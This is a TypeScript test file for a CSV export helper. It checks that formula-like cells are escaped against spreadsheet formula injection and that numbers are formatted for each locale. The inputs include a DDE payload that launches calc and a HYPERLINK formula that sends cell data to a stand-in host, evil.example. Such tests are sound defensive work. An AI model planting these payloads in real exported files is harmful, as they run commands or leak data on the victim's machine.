import type { Language } from "@packhaus/contract/members/schema"
import { parse } from "csv-parse/sync"
import { expect, it } from "vitest"
import { BYTE_ORDER_MARK, linesOf } from "./csv.ts"

type Value = string | number | null
const textOf = (values: Value[], language: Language = "de") =>
  BYTE_ORDER_MARK + linesOf([["Wert"], ...values.map((value) => [value])], language)
const read = (text: string): string[][] => parse(text, { bom: true, delimiter: ";" })

it.each([
  "=1+1",
  "+49 40 123",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "＝1+1",
  '=HYPERLINK("https://evil.example?"&A1)',
])("keeps %j as text in a spreadsheet", (text) => {
  expect(read(textOf([text]))[1]?.[0]).toBe(`'${text}`)
})

it.each(["plain", 'with "quotes"', "a;b,c", "two\nlines", "a=b", "5-3", "ä€", ""])(
  "leaves %j unchanged",
  (text) => {
    expect(read(textOf([text]))[1]?.[0]).toBe(text)
  },
)

it("formats numbers for the language, minus included, and writes nothing for null", () => {
  expect(textOf([-12.5])).toBe('\ufeff"Wert"\r\n-12,5\r\n')
  expect(textOf([-12.5], "en")).toBe('\ufeff"Wert"\r\n-12.5\r\n')
  expect(textOf([null])).toBe('\ufeff"Wert"\r\n\r\n')
})
